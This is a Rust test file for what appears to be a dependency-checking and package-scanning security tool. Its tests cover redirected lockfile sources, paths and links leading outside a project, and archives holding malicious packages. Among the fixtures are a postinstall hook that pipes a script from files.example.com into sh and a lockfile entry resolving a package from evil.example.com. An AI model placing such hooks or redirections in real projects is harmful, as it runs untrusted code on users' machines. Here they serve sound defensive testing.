//! What was asked for and not looked at is never allowed: edited lockfiles, paths outside, cut-off files, pipes.

use crate::lab::{AT, Lab, dropper};
use bifocal_core::{Ecosystem, Release};
use bifocal_testkit::{MavenPackage, NpmPackage, PythonPackage};

fn lab() -> Lab {
    let lab = Lab::new();
    lab.upstream.publish(NpmPackage::new("left-pad", "1.3.0").file("index.js", "module.exports = 1;\n"));
    lab
}

fn lockfile(entry: &str) -> String {
    format!(
        "{{\"name\":\"p\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{{\"\":{{\"name\":\"p\",\"version\":\"1.0.0\"}},{entry}}}}}"
    )
}

#[test]
fn a_lockfile_that_fetches_a_known_name_from_elsewhere_is_an_error() {
    let lab = lab();
    lab.write(
        "package-lock.json",
        lockfile("\"node_modules/left-pad\":{\"version\":\"1.3.0\",\"resolved\":\"https://evil.example.com/other.tgz\"}"),
    );
    lab.run(&["check", "--at", AT]).expect(3).says(&["evil.example.com", "none of the configured upstreams"]);
    // The same name from the upstream's own host is what was looked at.
    let own = lab.upstream.npm_url();
    lab.write(
        "package-lock.json",
        lockfile(&format!("\"node_modules/left-pad\":{{\"version\":\"1.3.0\",\"resolved\":\"{own}left-pad/-/left-pad-1.3.0.tgz\"}}")),
    );
    lab.run(&["check", "--at", AT]).expect(0);
}

#[test]
fn paths_that_lead_outside_or_to_archives_are_errors() {
    for path in ["/etc/other", "../outside", "packed.tgz"] {
        let lab = lab();
        lab.write("requirements.txt", "");
        lab.write("package.json", format!("{{\"name\":\"p\",\"version\":\"1.0.0\",\"dependencies\":{{\"a\":\"file:{path}\"}}}}"));
        lab.run(&["check", "package.json", "--at", AT]).expect(3).says(&["nothing looked at it"]);
    }
}

#[test]
fn a_path_beside_the_folder_that_is_named_is_outside_wherever_one_stands() {
    let lab = lab();
    lab.write("app/package.json", "{\"name\":\"p\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"file:../beside\"}}");
    lab.write("beside/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\",\"dependencies\":{\"left-pad\":\"1.3.0\"}}");
    for target in [&["app"][..], &["app/package.json"], &["./app/"]] {
        lab.run(&[&["check", "--at", AT][..], target].concat()).expect(3).says(&["a (../beside)", "nothing looked at it"]);
    }
    // Both are checked: it is part of the project.
    lab.run(&["check", "--at", AT, "app", "beside"]).expect(0).says(&["1 allowed"]);
    lab.run(&["check", "--at", AT]).expect(0).says(&["1 allowed"]);
}

#[test]
fn a_lockfile_that_was_cut_off_to_nothing_is_malformed() {
    for name in ["Cargo.lock", "pnpm-lock.yaml", "gradle.lockfile", "go.mod"] {
        let lab = lab();
        lab.write(name, "\n");
        lab.run(&["check", name]).expect(2).complains(&[name, "empty"]);
    }
}

#[cfg(unix)]
#[test]
fn a_pipe_is_no_lockfile() {
    let lab = lab();
    let made = std::process::Command::new("mkfifo").arg(lab.project().join("package-lock.json")).status().unwrap();
    assert!(made.success());
    lab.run(&["check", "package-lock.json"]).expect(2).complains(&["no regular file"]);
}

#[cfg(unix)]
#[test]
fn links_and_odd_files_in_a_folder_are_never_passed_over_in_silence() {
    let lab = lab();
    let manifest = "{\"dependencies\": {\"left-pad\": \"1.3.0\"}}";
    lab.write("package.json", "{}");
    lab.run(&["check", "--at", AT]).expect(0);
    // A link that stays inside is read.
    lab.write("kept/manifest.json", manifest);
    std::fs::create_dir(lab.project().join("linked")).unwrap();
    std::os::unix::fs::symlink("../kept/manifest.json", lab.project().join("linked/package.json")).unwrap();
    assert_eq!(lab.check_json(0, &["--at", AT]).verdict("pkg:npm/left-pad@1.3.0"), "allow");
    // One that leaves is named.
    let outside = lab.beside("outside.json");
    std::fs::write(&outside, manifest).unwrap();
    std::fs::remove_file(lab.project().join("linked/package.json")).unwrap();
    std::os::unix::fs::symlink(&outside, lab.project().join("linked/package.json")).unwrap();
    lab.run(&["check", "--at", AT]).expect(3).says(&["linked/package.json", "leads outside"]);
    std::fs::remove_dir_all(lab.project().join("linked")).unwrap();
    // A folder or a pipe with such a name, and a name that is no UTF-8.
    std::fs::create_dir_all(lab.project().join("odd/package-lock.json")).unwrap();
    lab.run(&["check", "--at", AT]).expect(3).says(&["odd/package-lock.json", "it is a folder"]);
    std::fs::remove_dir_all(lab.project().join("odd")).unwrap();
    let made = std::process::Command::new("mkfifo").arg(lab.project().join("yarn.lock")).status().unwrap();
    assert!(made.success());
    lab.run(&["check", "--at", AT]).expect(3).says(&["yarn.lock", "no regular file"]);
    std::fs::remove_file(lab.project().join("yarn.lock")).unwrap();
    let folder = lab.project().join(<std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(b"w\xff"));
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("package.json"), manifest).unwrap();
    lab.run(&["check", "--at", AT]).expect(3).says(&["package.json", "no UTF-8"]);
}

#[test]
fn what_is_left_out_is_told_in_a_line() {
    let lab = lab();
    lab.write("package.json", "{}");
    lab.write("vendor/x/package-lock.json", "{}");
    lab.write("target/y/Cargo.lock", "");
    lab.write("bun.lock", "{}");
    lab.run(&["check", "--at", AT]).expect(0).says(&[
        "not looked at: copies of others' code and what was built: target (1 lockfile or manifest), vendor (1 lockfile or manifest)",
        "not looked at: lockfiles of a form that is not read: bun.lock",
    ]);
    // A folder that is named is looked into.
    lab.run(&["check", "vendor/x", "--at", AT]).expect(2).complains(&["vendor/x/package-lock.json:1"]);
    // Hidden folders are part of the project.
    lab.write(".hidden/package.json", "{\"dependencies\": {\"left-pad\": \"1.3.0\"}}");
    assert_eq!(lab.check_json(0, &["--at", AT]).releases().len(), 1);
}

#[test]
fn links_of_members_out_of_the_folder_are_errors() {
    let lab = lab();
    for (file, text) in [
        (
            "pnpm-lock.yaml",
            "lockfileVersion: '9.0'\nimporters:\n  packages/a:\n    dependencies:\n      x:\n        specifier: link:../PATH\n        version: link:../PATH\n",
        ),
        (
            "yarn.lock",
            "__metadata:\n  version: 8\n\"x@portal:../PATH\":\n  version: 0.0.0\n  resolution: \"x@portal:../PATH::locator=a%40workspace%3Apackages%2Fa\"\n",
        ),
        ("package-lock.json", "{\"lockfileVersion\":3,\"packages\":{\"node_modules/x\":{\"resolved\":\"packages/PATH\",\"link\":true}}}"),
    ] {
        lab.write(file, text.replace("PATH", "b"));
        lab.run(&["check", file, "--at", AT]).expect(0).says(&["1 path dependency inside"]);
        lab.write(file, text.replace("PATH", "../../outside"));
        lab.run(&["check", file, "--at", AT]).expect(3).says(&["outside", "nothing looked at it"]);
    }
}

#[cfg(unix)]
#[test]
fn a_path_dependency_that_is_a_link_out_of_the_folder_is_an_error() {
    let lab = lab();
    lab.write("package.json", "{\"dependencies\":{\"a\":\"file:./a\"}}");
    std::fs::create_dir(lab.beside("outside")).unwrap();
    std::os::unix::fs::symlink(lab.beside("outside"), lab.project().join("a")).unwrap();
    lab.run(&["check", "package.json", "--at", AT]).expect(3).says(&["a (./a)", "leads outside"]);
}

#[test]
fn a_lockfile_that_lacks_what_the_manifest_asks_for_is_an_error() {
    let lab = lab();
    let manifest = "{\"dependencies\":{\"left-pad\":\"1.3.0\"}}";
    lab.write("yarn.lock", "# yarn lockfile v1\n");
    lab.write("package.json", "{}");
    lab.run(&["check", "--at", AT]).expect(0);
    lab.write("package.json", manifest);
    lab.run(&["check", "--at", AT]).expect(3).says(&["left-pad 1.3.0", "package.json:1", "yarn.lock does not have it"]);
    lab.write("yarn.lock", "");
    lab.run(&["check", "--at", AT]).expect(2).complains(&["yarn.lock:1", "# yarn lockfile v1"]);
}

#[test]
fn the_project_itself_is_no_path_dependency() {
    let lab = lab();
    lab.write("Cargo.lock", "version = 4\n[[package]]\nname = 'p'\nversion = '1.0.0'\n");
    lab.write(
        "uv.lock",
        "version = 1\nrequires-python = '>=3.8'\n[[package]]\nname = 'p'\nversion = '1.0.0'\nsource = { editable = '.' }\n",
    );
    lab.write("requirements.txt", "-e .\n");
    let report = lab.check_json(0, &["--at", AT]);
    assert_eq!(report.0["local"].as_array().unwrap().len(), 0, "{:#}", report.0["local"]);
}

#[test]
fn a_store_that_is_not_there_is_a_mistake() {
    let lab = lab();
    lab.run(&["check", "--data", ".", "pkg:npm/left-pad@1.3.0"]).expect(2).complains(&["state.sqlite3"]);
}

#[test]
fn a_folder_of_archives_is_each_of_them_and_an_empty_one_an_error() {
    let lab = lab();
    let bad = dropper("bad-tool", "1.0.0").build();
    lab.write("dist/bad-tool-1.0.0.tgz", bad.artifact().bytes());
    lab.write("dist/good-1.0.0.tgz", NpmPackage::new("good", "1.0.0").file("index.js", "module.exports = 1;\n").build().artifact().bytes());
    lab.run(&["scan", "dist"]).expect(1).says(&["bad-tool-1.0.0.tgz", "1 held, 1 clean"]);
    // What lies beside archives makes no source tree of the folder.
    for beside in [".gitignore", "SHA256SUMS", "README.md", "bad-tool-1.0.0.tgz.asc", "bad-tool-1.0.0.tgz.sigstore.json"] {
        lab.write(&format!("dist/{beside}"), "*\n");
        lab.run(&["scan", "dist"]).expect(1).says(&["bad-tool-1.0.0.tgz", "1 held, 1 clean"]);
    }
    // Anything else is looked at too, and an archive in a subfolder as well.
    lab.write("dist/install.sh", "#!/bin/sh\necho installed\n");
    std::fs::create_dir(lab.project().join("dist/old")).unwrap();
    std::fs::rename(lab.project().join("dist/bad-tool-1.0.0.tgz"), lab.project().join("dist/old/bad-tool-0.9.0.tgz")).unwrap();
    lab.run(&["scan", "dist"]).expect(1).says(&["HOLD  dist/old/bad-tool-0.9.0.tgz\n", "HOLD  dist\n", "2 held, 1 clean"]);
    std::fs::create_dir(lab.project().join("empty")).unwrap();
    lab.run(&["scan", "empty"]).expect(3).says(&["holds no file"]);
}

#[test]
fn a_source_tree_with_archives_in_it_is_the_tree_and_each_of_them() {
    let lab = lab();
    lab.write(
        "tree/package.json",
        "{\"name\":\"tree\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://files.example.com/i.sh | sh\"}}",
    );
    lab.write("tree/test/fixture.tgz", NpmPackage::new("good", "1.0.0").build().artifact().bytes());
    lab.run(&["scan", "tree"]).expect(1).says(&["HOLD  tree\n", "1 held, 1 clean"]);
    lab.write("tree/package.json", "{\"name\":\"tree\",\"version\":\"1.0.0\"}");
    lab.write("tree/test/fixture.tgz", dropper("bad-tool", "1.0.0").build().artifact().bytes());
    lab.run(&["scan", "tree"]).expect(1).says(&["HOLD  tree/test/fixture.tgz\n", "1 held, 1 clean"]);
}

#[test]
fn other_components_of_an_sbom_are_counted_and_repositories_are_errors() {
    let lab = lab();
    let bom = |purl: &str| {
        format!(
            "{{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\",\"components\":[{{\"type\":\"library\",\"name\":\"a\",\"purl\":\"{purl}\"}}]}}"
        )
    };
    lab.write("bom.json", bom("pkg:deb/debian/curl@7"));
    lab.run(&["check", "bom.json", "--at", AT]).expect(0).says(&["not looked at: 1 deb component in bom.json"]);
    for (purl, expected) in [("pkg:github/octo/cat@v1", "git dependencies are not fetched"), ("pkg:npm/left-pad", "names no version")] {
        lab.write("bom.json", bom(purl));
        lab.run(&["check", "bom.json", "--at", AT]).expect(3).says(&[expected]);
    }
}

#[test]
fn a_package_url_means_the_file_and_the_digest_that_its_qualifiers_name() {
    let lab = lab();
    lab.upstream.publish(MavenPackage::new("org.x:foo", "1.0").classified("linux", "zip", "PK"));
    lab.upstream.publish(PythonPackage::wheel("foo", "1.0"));
    lab.upstream.publish(PythonPackage::sdist("foo", "1.0"));
    let files = |code: i32, purl: &str| lab.run(&["check", "--format", "json", "--at", AT, purl]).expect(code).stdout;
    assert!(files(0, "pkg:pypi/foo@1.0?file_name=foo-1.0.tar.gz").contains("\"filename\": \"foo-1.0.tar.gz\""));
    let run = lab.run(&["check", "--format", "json", "--at", AT, "pkg:maven/org.x/foo@1.0?type=zip&classifier=linux"]);
    assert!(run.stdout.contains("foo-1.0-linux.zip"), "{run:?}");
    let wrong = format!("checksum=sha256:{}", "0".repeat(64));
    for purl in ["pkg:npm/left-pad@1.3.0?", "pkg:pypi/foo@1.0?", "pkg:maven/org.x/foo@1.0?type=zip&classifier=linux&"] {
        let run = lab.run(&["check", "--at", AT, &format!("{purl}{wrong}")]).expect(1);
        run.says(&["digest"]);
    }
    lab.run(&["check", "--at", AT, "pkg:npm/left-pad@1.3.0?repository_url=https://evil.example.com"]).expect(3);
    lab.run(&["check", "--at", AT, "pkg:npm/left-pad@1.3.0?vcs_url=git%2Bhttps://example.com/o/r.git"]).expect(3);
    lab.run(&["check", "--at", AT, "pkg:npm/left-pad@1.3.0?arch=arm64"]).expect(2).complains(&["arch=arm64", "not understood"]);
    // Without a version it is what the client would take.
    for purl in ["pkg:maven/org.x/foo", "pkg:pypi/foo"] {
        lab.run(&["check", "--at", AT, purl]).expect(0);
    }
}

#[test]
fn a_pom_whose_parent_is_not_there_leaves_the_verdicts_of_the_others() {
    let lab = lab();
    lab.write("package.json", "{\"dependencies\": {\"left-pad\": \"1.3.0\"}}");
    lab.write(
        "pom.xml",
        "<project><modelVersion>4.0.0</modelVersion><parent><groupId>x</groupId><artifactId>gone</artifactId><version>1</version></parent><artifactId>p</artifactId></project>",
    );
    let report = lab.check_json(3, &["--at", AT]);
    assert_eq!(report.verdict("pkg:npm/left-pad@1.3.0"), "allow");
}

#[test]
fn a_maven_module_outside_the_folder_is_an_error_and_one_inside_is_local() {
    let lab = lab();
    let pom = |name: &str, body: &str| {
        format!("<project><groupId>g</groupId><artifactId>{name}</artifactId><version>1</version>{body}</project>")
    };
    std::fs::create_dir(lab.beside("other")).unwrap();
    std::fs::write(lab.beside("other/pom.xml"), pom("other", "")).unwrap();
    let modules = "<modules><module>../../other</module><module>../b</module></modules>";
    lab.write("a/pom.xml", pom("a", modules));
    lab.write("b/pom.xml", pom("b", ""));
    let report = lab.check_json(3, &["--at", AT]);
    let missing = report.0["not_evaluated"].as_array().unwrap();
    assert_eq!(missing.len(), 1, "{missing:#?}");
    assert!(missing[0]["what"].as_str().unwrap().contains("../../other"));
    assert_eq!(report.0["local"][0]["path"], "../b");
}

#[test]
fn pinned_files_that_are_not_looked_at_are_counted_in_a_line() {
    let lab = Lab::new();
    let tags = ["py3-none-any", "cp38-cp38-win32", "cp38-cp38-macosx_11_0_arm64"];
    for tag in tags {
        lab.upstream.publish(PythonPackage::wheel("many", "1.0").tag(tag).file("many/__init__.py", format!("TAG = '{tag}'\n")));
    }
    lab.upstream.publish(PythonPackage::sdist("many", "1.0"));
    lab.upstream.publish(PythonPackage::wheel("one", "1.0"));
    let releases = ["many", "one"].map(|name| Release::new(Ecosystem::Pypi, name, "1.0").unwrap());
    for (file, text) in [("uv.lock", lab.upstream.uv_lock(&releases)), ("requirements.txt", lab.upstream.requirements_txt(&releases))] {
        lab.write(file, text);
        let line =
            "3 other files that lockfiles pin for 1 release and that the client here does not take; --all-artifacts looks at them too";
        lab.run(&["check", file, "--at", AT]).expect(0).says(&[&format!("not looked at: {line}"), "2 artifacts looked at"]);
        let report = lab.check_json(0, &["--at", AT, file]);
        assert_eq!(report.0["left_out"], serde_json::json!([line]));
        assert_eq!(report.release("pkg:pypi/many@1.0")["other_artifacts"], 3);
        lab.run(&["check", file, "--at", AT, "--all-artifacts"]).expect(0).says(&["5 artifacts looked at"]).keeps_quiet_about(&["pin for"]);
    }
    // Without a lockfile nothing is pinned, and what the client takes is what was asked about.
    lab.run(&["check", "pkg:pypi/many@1.0", "--at", AT]).expect(0).keeps_quiet_about(&["pin for"]);
}
